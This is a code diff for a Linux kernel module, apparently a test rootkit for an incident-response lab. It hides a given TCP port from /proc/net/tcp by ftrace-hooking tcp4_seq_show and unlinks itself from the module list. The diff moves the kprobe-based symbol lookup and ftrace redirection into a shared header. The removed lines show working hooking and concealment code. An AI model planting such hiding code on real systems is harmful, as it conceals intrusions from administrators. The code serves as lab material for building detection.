@@ -14,16 +14,16 @@
 // It can never be unloaded (no exit function, and the module list no longer holds it): the lab
 // powers the guest off instead.
 //
-// The hooking code is hide_pid's (rootkits/hide_pid/hide_pid.c): kallsyms_lookup_name's address
-// from a kprobe on it, then ftrace_set_filter_ip + register_ftrace_function.
+// The hook itself is ../common/ftrace_redirect.h, shared with hide_pid.
 #include <linux/ftrace.h>
 #include <linux/kernel.h>
-#include <linux/kprobes.h>
 #include <linux/module.h>
 #include <linux/seq_file.h>
 #include <net/inet_sock.h>
 #include <net/sock.h>
 #include <net/tcp_states.h>
+
+#include "ftrace_redirect.h"
 
 MODULE_LICENSE("GPL");  // ftrace and kprobe registration are GPL-only symbols
 MODULE_DESCRIPTION("irsnap kernel lab: test rootkit hiding a TCP port from /proc/net/tcp");
@@ -34,7 +34,6 @@ MODULE_PARM_DESC(port, "the local TCP port whose /proc/net/tcp rows tcp4_seq_sho
 
 typedef int (*seq_show_fn)(struct seq_file *, void *);
 static seq_show_fn real_tcp4_seq_show;
-static unsigned long target_ip;
 
 // The local port of a /proc/net/tcp record, host order. v is a full socket (listening or
 // connected), a timewait socket or a request socket; all three begin with struct sock_common.
@@ -65,34 +64,7 @@ static int ht_tcp4_seq_show(struct seq_file *seq, void *v)
 	return ret;
 }
 
-// The ftrace callback: send the call to ht_tcp4_seq_show unless it comes from this module (our
-// own call of the real function must reach it, not loop back here).
-static void notrace ht_ftrace_thunk(unsigned long ip, unsigned long parent_ip,
-				    struct ftrace_ops *ops, struct ftrace_regs *fregs)
-{
-	struct pt_regs *regs = ftrace_get_regs(fregs);
-
-	if (regs && !within_module(parent_ip, THIS_MODULE))
-		regs->ip = (unsigned long)ht_tcp4_seq_show;
-}
-
-static struct ftrace_ops ht_ops = {
-	.func = ht_ftrace_thunk,
-	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
-};
-
-static unsigned long lookup_name(const char *name)
-{
-	typedef unsigned long (*kallsyms_fn)(const char *);
-	struct kprobe kp = {.symbol_name = "kallsyms_lookup_name"};
-	kallsyms_fn kallsyms_lookup;
-
-	if (register_kprobe(&kp) < 0)
-		return 0;
-	kallsyms_lookup = (kallsyms_fn)kp.addr;
-	unregister_kprobe(&kp);
-	return kallsyms_lookup ? kallsyms_lookup(name) : 0;
-}
+FTRACE_REDIRECT(ht_hook, ht_tcp4_seq_show);
 
 static int __init hide_tcp_init(void)
 {
@@ -103,23 +75,9 @@ static int __init hide_tcp_init(void)
 	// tcp4_seq_show is static in net/ipv4/tcp_ipv4.c; kallsyms still names it (the kernel is
 	// built with CONFIG_KALLSYMS_ALL) and, called only through seq_operations, it is never
 	// inlined away.
-	target_ip = lookup_name("tcp4_seq_show");
-	if (!target_ip) {
-		pr_err("hide_tcp: tcp4_seq_show not found\n");
-		return -ENOENT;
-	}
-	real_tcp4_seq_show = (seq_show_fn)target_ip;
-	err = ftrace_set_filter_ip(&ht_ops, target_ip, 0, 0);
-	if (err) {
-		pr_err("hide_tcp: ftrace_set_filter_ip: %d\n", err);
+	real_tcp4_seq_show = (seq_show_fn)ftrace_redirect_install(&ht_hook, "tcp4_seq_show", &err);
+	if (!real_tcp4_seq_show)
 		return err;
-	}
-	err = register_ftrace_function(&ht_ops);
-	if (err) {
-		pr_err("hide_tcp: register_ftrace_function: %d\n", err);
-		ftrace_set_filter_ip(&ht_ops, target_ip, 1, 0);
-		return err;
-	}
 	// Printed before hiding, so the guest's console log shows what was loaded.
 	pr_info("hide_tcp: hiding tcp port %d from /proc/net/tcp\n", port);
 	list_del(&THIS_MODULE->list);
